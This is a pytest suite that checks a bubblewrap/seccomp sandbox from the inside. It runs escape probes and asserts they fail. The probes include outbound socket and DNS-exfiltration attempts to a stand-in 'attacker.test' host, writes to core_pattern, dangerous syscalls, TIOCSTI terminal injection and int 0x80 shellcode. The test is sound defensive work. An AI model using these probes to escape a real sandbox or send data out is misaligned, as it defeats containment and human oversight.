"""From inside an embedded sandbox, as hostile code: no way out, no host, no more rights.

Each test says how it was shown to fail: the named defence was taken out by hand and the test run.
"""

from __future__ import annotations

import json
import os
import platform
import socket
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from moat.runtime.sandbox import AGENT_UID
from tests.attacks.canary import CORE, Canary, canary, host_addresses
from tests.runtime.embedded_kit import (
    EVERYBODY,
    SYSTEM_PYTHON,
    USER_UID,
    held,
    processes,
    run,
    run_python,
    user_directory,
)

pytestmark = [pytest.mark.embedded, pytest.mark.parametrize("who", EVERYBODY)]

# Not addresses of this machine; nothing is sent anywhere, there is no route.
ELSEWHERE = ("169.254.169.254", "192.0.2.1", "10.0.0.1", "fd00:ec2::254", "2001:db8::1")


@pytest.fixture
def bird() -> Iterator[Canary]:
    with canary() as made:
        yield made


WAYS_OUT = """
import json, socket, sys
hosts, tcp, udp = json.loads(sys.argv[1])
found = {}
def attempt(name, action):
    try:
        found[name] = action() or "REACHED"
    except OSError as error:
        found[name] = type(error).__name__ + " " + str(error.errno)
def stream(host, port):
    with socket.create_connection((host, port), 2) as sock:
        sock.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        return None if b"canary" in sock.recv(1000) else "no canary"
def datagram(host, port, data):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.3)
        sock.connect((host, port))
        sock.send(data)
        sock.recv(1000)
def ping(host, kind):
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as sock:
        sock.settimeout(0.3)
        sock.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", (host, 1))
        sock.recv(1000)
query = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x08attacker\\x04test\\x00\\x00\\x01\\x00\\x01"
for host in hosts:
    for port in (tcp, 22, 53, 8080):
        attempt(f"tcp {host} {port}", lambda: stream(host, port))
    attempt(f"udp {host}", lambda: datagram(host, udp, b"hello"))
    if host != "127.0.0.1":  # there our own stub answers
        attempt(f"dns {host}", lambda: datagram(host, 53, query))
    if ":" not in host:
        attempt(f"icmp {host}", lambda: ping(host, socket.SOCK_DGRAM))
        attempt(f"raw {host}", lambda: ping(host, socket.SOCK_RAW))
print(json.dumps(found))
"""


def test_no_address_outside_is_reached(who: str, bird: Canary) -> None:
    """Shown to fail with `--share-net` in place of `--unshare-net` and `_join_network` without its check."""
    hosts = [*host_addresses(), *ELSEWHERE]
    assert "127.0.0.1" in hosts
    assert len(hosts) > len(ELSEWHERE) + 2, "this machine has addresses of its own"
    found = run_python(WAYS_OUT, json.dumps([hosts, bird.tcp, bird.udp]), who=who)
    assert "REACHED" not in found.values(), found
    assert bird.knocks == []
    assert found["tcp 169.254.169.254 22"] == "OSError 101", "at once, not after a timeout"


def test_there_is_one_interface_without_a_route(who: str) -> None:
    """Shown to fail with `--share-net`, as above."""
    code = """
import json
interfaces = [line.split(":")[0].strip() for line in open("/proc/net/dev") if ":" in line]
routes = open("/proc/net/route").read().splitlines()[1:]
print(json.dumps([interfaces, routes]))
"""
    assert run_python(code, who=who) == [["lo"], []]


def test_an_ip_literal_on_a_captured_port_fails_at_once(who: str) -> None:
    """It is not routed to the capture; see the note in `embedded`."""
    code = """
import json, socket, time
begun, found = time.monotonic(), []
for port in (80, 443):
    try:
        socket.create_connection(("192.0.2.1", port), 5)
    except OSError as error:
        found.append(error.errno)
print(json.dumps([found, time.monotonic() - begun < 1]))
"""
    assert run_python(code, who=who) == [[101, 101], True]


def test_names_are_answered_and_never_forwarded(who: str, bird: Canary) -> None:
    """Shown to fail with `--share-net`. The canary listens on UDP 53 of every address of the host."""
    code = """
import json, socket
names = ("c2VjcmV0.attacker.test", "metadata.google.internal", "host.docker.internal")
print(json.dumps([socket.getaddrinfo(name, 80, proto=6) for name in names]))
"""
    for name in run_python(code, who=who):
        addresses = [entry[4][0] for entry in name]
        assert len(addresses) == 1, "no IPv6"
        assert addresses[0].startswith("127.")
        assert 64 <= int(addresses[0].split(".")[1]) < 128
    assert bird.knocks == []


SOCKETS = """
import ctypes, json, socket
libc = ctypes.CDLL(None, use_errno=True)
def attempt(family, kind=1, protocol=0):
    fd = libc.socket(ctypes.c_long(family), kind, protocol)
    return "opened" if fd >= 0 else ctypes.get_errno()
print(json.dumps({
    "vsock": attempt(40), "vsock, high bits": attempt(40 | 1 << 32), "vsock datagram": attempt(40, 2),
    "packet": attempt(17, 3), "bluetooth": attempt(31), "alg": attempt(38, 5), "can": attempt(29, 3), "tipc": attempt(30),
    "xdp": attempt(44, 3), "key": attempt(15, 3, 2), "netlink audit": attempt(16, 3, 9), "netlink netfilter": attempt(16, 3, 12),
    "sctp": attempt(2, 1, 132), "udplite": attempt(10, 2, 136), "l2tp": attempt(2, 2, 115), "mptcp": attempt(2, 1, 262),
    "inet": attempt(2), "inet6": attempt(10), "unix": attempt(1), "route": attempt(16, 3, 0),
}))
"""


def test_only_socket_families_that_the_namespace_separates(who: str) -> None:
    """Shown to fail without `--seccomp`: AF_VSOCK, which reaches the hypervisor, opens; so does UDP-Lite."""
    found = run_python(SOCKETS, who=who)
    assert found.pop("mptcp") in {"opened", 93, 92}  # with a kernel that has it: Go asks for it first
    for name in ("inet", "inet6", "unix", "route"):
        assert found.pop(name) == "opened"
    for name in ("netlink audit", "netlink netfilter", "sctp", "udplite", "l2tp"):
        assert found.pop(name) == 93, name
    assert set(found.values()) == {97}, found


def test_abstract_sockets_of_the_host_are_out_of_reach(who: str) -> None:
    """Shown to fail with `--share-net`: abstract names belong to the network namespace."""
    name = f"\0moat-test-{os.getpid()}"
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(name)
        listener.listen()
        code = """
import json, socket, sys
try:
    socket.socket(socket.AF_UNIX).connect("\\0" + sys.argv[1])
    print(json.dumps("REACHED"))
except OSError as error:
    print(json.dumps(error.errno))
"""
        assert run_python(code, name[1:], who=who) == 111


# The host


def test_kernel_settings_cannot_be_written(who: str) -> None:
    """The escape of bubblewrap started by the real uid 0: core_pattern runs a program as the host's root.

    Writes back the very value that is there. Shown to fail with both defences out: no `_drop` and no
    `--ro-bind /proc/sys`; with either in place it passes.
    """
    names = (
        "kernel/core_pattern",
        "kernel/hostname",
        "vm/drop_caches",
        "kernel/modprobe",
        "kernel/printk",
        "fs/suid_dumpable",
    )
    before = Path("/proc/sys/kernel/core_pattern").read_text()
    code = """
import json, os, sys
found = {}
for name in sys.argv[1:]:
    path = "/proc/sys/" + name
    for way in (path, "/proc/1/root" + path, "/proc/self/root" + path):
        try:
            value = open(path).read() if os.access(path, os.R_OK) else ""
            fd = os.open(way, os.O_WRONLY)
            if value:
                os.write(fd, value.encode())
            found[way] = "WRITABLE"
        except OSError as error:
            found[way] = error.errno
print(json.dumps(found))
"""
    found = run_python(code, *names, who=who)
    assert "WRITABLE" not in found.values(), found
    assert Path("/proc/sys/kernel/core_pattern").read_text() == before


def test_no_kernel_uid_0_and_no_capability(who: str) -> None:
    """Shown to fail (as root) with `drop_to` empty: the kernel's uid is 0."""
    code = """
import json
fields = {name: value.strip() for name, _, value in (line.partition(":") for line in open("/proc/self/status"))}
sets = {name: int(fields[name], 16) for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")}
maps = [open("/proc/self/" + name).read().split() for name in ("uid_map", "gid_map")]
print(json.dumps([sets, fields["NoNewPrivs"], fields["Seccomp"], fields["Groups"].split(), maps]))
"""
    sets, no_new_privileges, filtered, groups, maps = run_python(code, who=who)
    assert set(sets.values()) == {0}
    assert (no_new_privileges, filtered) == ("1", "2")
    assert "0" not in groups
    for inside, _outside, count in maps:
        assert inside != "0"
        assert count == "1"


def test_nothing_runs_with_the_kernels_uid_0(who: str) -> None:
    """Seen from the host. Shown to fail as root with `drop_to` empty."""
    with held(who, started=True, argv=["sh", "-c", "echo up; exec sleep 60"]) as (_, about):
        for pid in (about["bwrap"], about["init"]):
            fields = dict(line.split(":", 1) for line in Path(f"/proc/{pid}/status").read_text().splitlines())
            assert fields["Uid"].split() == [str(AGENT_UID if who == "root" else USER_UID)] * 4
            assert fields["Gid"].split() == [str(AGENT_UID if who == "root" else USER_UID)] * 4
            assert fields["Groups"].split() == []
            assert int(fields["CapEff"], 16) == 0


def test_the_host_and_its_files_are_not_there(who: str) -> None:
    """Shown to fail with `--ro-bind / /` in place of the tree of `_system`."""
    with tempfile.TemporaryDirectory(prefix="mt-host-") as directory:
        Path(directory).chmod(0o755)
        Path(directory, "canary").write_text("host")
        absent = [
            "/root", "/etc/shadow", "/etc/ssh", "/etc/machine-id", "/etc/sudoers", "/etc/docker", "/sys", "/boot",
            "/var/run/docker.sock", "/run/docker.sock", "/run/dbus", "/var/lib/docker", "/var/log", "/dev/kmsg", "/dev/mem",
            "/dev/vda", "/dev/vsock", "/dev/kvm", "/dev/fuse", "/dev/net/tun", f"{directory}/canary", "/oldroot", "/newroot",
        ]  # fmt: skip
        code = """
import json, os, sys
homes = os.listdir("/home")
print(json.dumps([[path for path in sys.argv[1:] if os.path.lexists(path)], homes, os.listdir("/tmp"), os.listdir("/run")]))
"""
        assert run_python(code, *absent, who=who) == [[], ["agent"], [], []]


def test_the_system_is_read_only(who: str) -> None:
    """Shown to fail without the two `--remount-ro`. The agent owns nothing in /usr, so that holds twice."""
    code = """
import json, os
found = {}
for path in ("/x", "/usr/x", "/etc/x", "/etc/passwd", "/etc/resolv.conf", "/dev/x", "/proc/x", "/usr/bin/env"):
    try:
        open(path, "a").close()
        found[path] = "WRITABLE"
    except OSError as error:
        found[path] = error.errno
print(json.dumps(found))
"""
    assert "WRITABLE" not in run_python(code, who=who).values()


def test_no_process_of_the_host_is_seen(who: str) -> None:
    """Shown to fail without `--unshare-pid`."""
    code = """
import json, os
pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
print(json.dumps([sorted(pids), os.getpid(), os.getppid()]))
"""
    assert run_python(code, who=who) == [[1, 2], 2, 1]


def test_nothing_of_the_launch_is_readable_inside(who: str) -> None:
    """Shown to fail with the arguments on bubblewrap's command line instead of `--args`."""
    secret = "hidden-value-4711"
    code = """
import json, os
found = {}
for pid in (1, 2):
    found[pid] = [open(f"/proc/{pid}/{name}", "rb").read().decode() for name in ("cmdline", "environ")]
    found[f"fds of {pid}"] = sorted(os.listdir(f"/proc/{pid}/fd"), key=int)
print(json.dumps(found))
"""
    found = run_python(code, who=who, env={"VALUE": secret}, home_files=[("file", secret, 0o600)])
    cmdline, environ = found["1"]
    assert cmdline.startswith("/usr/bin/bwrap\0--info-fd\0")
    assert secret not in cmdline + environ
    assert "/workspace" not in cmdline
    assert environ.count("=") == 1
    assert environ.startswith("MOAT_SANDBOX=run_")
    assert found["fds of 2"] == ["0", "1", "2", "3"]  # 3: the listing itself
    assert len(found["fds of 1"]) <= 4  # pid 1 keeps bubblewrap's own event descriptor


def test_nothing_of_the_launch_is_readable_in_ps_on_the_host(who: str) -> None:
    """Shown to fail as above. The command itself is the user's own and is seen, as it is without Moat."""
    secret = "hidden-value-4712"
    order = {"env": {"VALUE": secret}, "home_files": [("file", secret, 0o600)]}
    with held(who, started=True, argv=["sh", "-c", "echo up; exec sleep 60"], **order) as (_, about):
        lines = processes()
    assert not [line for line in lines.values() if secret in line]
    line = lines[about["bwrap"]]
    assert line.split()[1:7:2] == ["--info-fd", "--args", "--block-fd"]
    assert "/workspace" not in line


ADD_KEY = """
import ctypes, platform
add_key, keyctl = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]
libc = ctypes.CDLL(None, use_errno=True)
key = libc.syscall(add_key, b"user", b"moat-test-key", b"x", 1, -4)
assert key > 0, ctypes.get_errno()
libc.syscall(keyctl, 15, key, 30)  # KEYCTL_SET_TIMEOUT: nothing stays behind
"""


def test_the_users_keys_are_not_listed(who: str) -> None:
    """Shown to fail (as the user; root's are not the agent's) with /proc/keys not masked."""
    with user_directory() as (_, command):
        user = command[: command.index(SYSTEM_PYTHON)] if who == "user" else []
        subprocess.run([*user, SYSTEM_PYTHON, "-c", ADD_KEY], check=True)
    assert run("cat", "/proc/keys", "/proc/key-users", who=who).stdout == ""


CRASH = """
import json, os, resource
limits = resource.getrlimit(resource.RLIMIT_CORE)
try:
    resource.setrlimit(resource.RLIMIT_CORE, (2, 2))
    limits = "raised"
except ValueError:
    pass
pid = os.fork()
if pid == 0:
    os.kill(os.getpid(), 11)
print(json.dumps([limits, os.WCOREDUMP(os.waitpid(pid, 0)[1])]))
"""


def test_a_crash_starts_no_program_of_the_host(who: str) -> None:
    """Where `core_pattern` is a pipe (apport, systemd-coredump), the kernel runs it as root for every limit but 1.

    Tried once in a virtual machine (Linux 6.1), with the limits that a sandbox had before, soft 0, and now: with 0
    the handler ran as uid 0 and was given the memory of an agent's process. Here the limit is looked at.
    """
    assert run_python(CRASH, who=who) == [list(CORE), False]
    assert run(
        "sleep", "100", who=who, beside=["sh", "-c", "ulimit -Hc; grep core /proc/self/limits"]
    ).stdout.split()[-3:] == [*map(str, CORE), "bytes"]


# More rights


SYSCALLS = """
import ctypes, json, platform
libc = ctypes.CDLL(None, use_errno=True)
column = 0 if platform.machine() == "x86_64" else 1
calls = {
    "io_uring_setup": (425, 425), "keyctl": (250, 219), "add_key": (248, 217), "bpf": (321, 280), "perf_event_open": (298, 241),
    "userfaultfd": (323, 282), "mount": (165, 40), "umount2": (166, 39), "open_by_handle_at": (304, 265), "kexec_load": (246, 104),
    "setns": (308, 268), "open_tree": (428, 428), "fsopen": (430, 430), "pivot_root": (155, 41), "init_module": (175, 105),
    "clone3": (435, 435), "syslog": (103, 116), "reboot": (169, 142), "swapon": (167, 224),
}
def attempt(*arguments):
    ctypes.set_errno(0)
    return libc.syscall(*arguments), ctypes.get_errno()
found = {name: attempt(numbers[column], 0, 0, 0, 0, 0) for name, numbers in calls.items()}
unshare = (272, 97)[column]
for name, flag in (("user", 0x10000000), ("net", 0x40000000), ("mount", 0x20000), ("pid", 0x20000000), ("time", 0x80)):
    found["unshare " + name] = attempt(unshare, flag)
found["unshare files"] = attempt(unshare, 0x400)
found["clone user"] = attempt((56, 220)[column], 0x10000000 | 17, 0, 0, 0, 0)
print(json.dumps(found))
"""


def test_dangerous_system_calls_are_refused(who: str) -> None:
    """Shown to fail without `--seccomp`. Arguments are zero: a call that got through would do nothing."""
    found = {name: tuple(result) for name, result in run_python(SYSCALLS, who=who).items()}
    assert found.pop("unshare files") == (0, 0)
    assert found.pop("io_uring_setup") == found.pop("clone3") == (-1, 38)
    assert set(found.values()) == {(-1, 1)}, found


def test_input_cannot_be_pushed_into_the_terminal(who: str) -> None:
    """Shown to fail without `--seccomp` where the kernel still has TIOCSTI (dev.tty.legacy_tiocsti=1).

    Nor can its line discipline be changed (TIOCSETD): the kernel loads a module for each that it is asked for.
    """
    code = """
import ctypes, fcntl, json, sys
found = []
for request, data in ((0x5412, b"x"), (0x541C, b"x"), (0x5423, bytes(4))):
    try:
        fcntl.ioctl(0, request, data)
        found.append("PUSHED")
    except OSError as error:
        found.append(error.errno)
libc = ctypes.CDLL(None, use_errno=True)
libc.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_char_p]
found.append("PUSHED" if libc.ioctl(0, 0x5412 | 1 << 32, b"x") == 0 else ctypes.get_errno())
print(json.dumps(found))
"""
    assert run_python(code, who=who, tty=(80, 24)) == [1, 1, 1, 1]


@pytest.mark.skipif(platform.machine() != "x86_64", reason="other processors have no second call table")
def test_calls_of_the_other_tables_are_refused(who: str) -> None:
    """The 32-bit table would bypass every number. Shown to fail without `--seccomp`: status 0."""
    x32 = "import ctypes, json; l = ctypes.CDLL(None, use_errno=True); print(json.dumps([l.syscall(0x40000000 | 39), ctypes.get_errno()]))"
    assert run_python(x32, who=who) == [-1, 38]
    int80 = (
        "import ctypes, mmap\n"
        "m = mmap.mmap(-1, 4096, prot=7)\n"
        "m.write(bytes.fromhex('b814000000cd80c3'))\n"  # mov eax, 20 (getpid); int 0x80; ret
        "ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()\n"
    )
    assert run("python3", "-c", int80, who=who).status == 128 + 31  # SIGSYS


def test_set_uid_programs_give_nothing(who: str) -> None:
    """Shown to fail (mount options) with `--dev-bind` of /usr; no_new_privs is bubblewrap's own."""
    code = """
import json
flags = {line.split()[4]: line.split()[5].split(",") for line in open("/proc/self/mountinfo")}
print(json.dumps({place: [flag for flag in ("nosuid", "nodev") if flag not in options] for place, options in flags.items()
    if not place.startswith("/dev/")}))
"""
    assert not any(run_python(code, who=who).values())


def test_devices_cannot_be_made(who: str) -> None:
    """A capability of the host that no user namespace gives; here for the day a runtime changes."""
    code = "import json, os, stat\ntry:\n  os.mknod('/tmp/d', 0o600 | stat.S_IFBLK, os.makedev(254, 0))\n  print('\"MADE\"')\nexcept OSError as e:\n  print(e.errno)"
    assert run_python(code, who=who) == 1
